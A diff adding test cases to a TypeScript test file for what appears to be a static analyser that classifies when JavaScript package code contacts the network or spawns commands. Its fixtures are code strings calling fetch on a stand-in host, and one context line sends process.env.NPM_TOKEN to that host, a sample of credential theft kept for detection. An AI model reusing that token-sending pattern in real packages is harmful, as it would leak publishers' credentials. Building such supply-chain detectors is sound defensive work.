@@ -309,6 +309,68 @@ t.test('a statement belongs to the first phase that reaches it', t => {
   t.end()
 })
 
+t.test('code that the package hands to nobody runs by a call only', t => {
+  const send = `fetch('https://c.invalid')`
+  const star = `var __importStar = (this && this.__importStar) || function (m) { return m && m.__esModule ? m : { default: m } };`
+  const rows: readonly (readonly [name: string, files: Files, phases: readonly Phase[]])[] = [
+    [
+      'loaded through the helper of a compiler',
+      {
+        'i.js': `${star}const a = __importStar(require('./a')); exports.a = a`,
+        'a.js': `exports.f = () => ${send}`,
+      },
+      ['run'],
+    ],
+    [
+      'passed where nothing is expected',
+      {
+        'i.js': `const make = hook => { const f = () => ${send}; if (hook !== undefined) hook(f); return f }; exports.f = make()`,
+      },
+      ['run'],
+    ],
+    [
+      'passed to its own function, which somebody might have replaced',
+      {
+        'i.js': `const all = { each(list, g) { for (const one of list) g(one) } }; require('x')(all); all.each([1], one => () => ${send}); const f = () => ${send}; all.each([f], one => one.name)`,
+      },
+      ['run', 'run'],
+    ],
+    [
+      'compared',
+      { 'i.js': `const known = require('x')(); const f = () => ${send}; known.indexOf(f); exports.f = f` },
+      ['run'],
+    ],
+    [
+      'called by what it is passed to',
+      { 'i.js': `const all = { each(g) { g() } }; require('x')(all); all.each(() => ${send})` },
+      ['import'],
+    ],
+    ['passed to another package', { 'i.js': `require('x')(() => ${send})` }, ['import']],
+  ]
+  for (const [name, files, phases] of rows) {
+    const contacts = analyse(files).facts.filter(fact => fact.kind === 'contacts')
+    t.strictSame(
+      contacts.map(fact => fact.phase),
+      phases,
+      name,
+    )
+  }
+  t.end()
+})
+
+t.test('what a compiler puts around a module is not mixed up with other modules', t => {
+  const interop = `var d = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod } };`
+  const names = Array.from({ length: 40 }, (_, at) => `const m${at} = d(require('m${at}'));`).join('')
+  const { facts } = analyse({
+    'i.js': `${interop}${names}const c = d(require('child_process')); m39.default('x'); c.default.execSync('tool')`,
+  })
+  t.strictSame(
+    facts.filter(fact => fact.kind === 'starts').map(fact => fact.commands),
+    [['tool']],
+  )
+  t.end()
+})
+
 t.test('guards on the way are named and remove nothing', t => {
   const rows: readonly (readonly [string, readonly string[]])[] = [
     [`if (process.platform === 'win32') fetch('https://c.invalid/' + process.env.NPM_TOKEN)`, ['platform']],
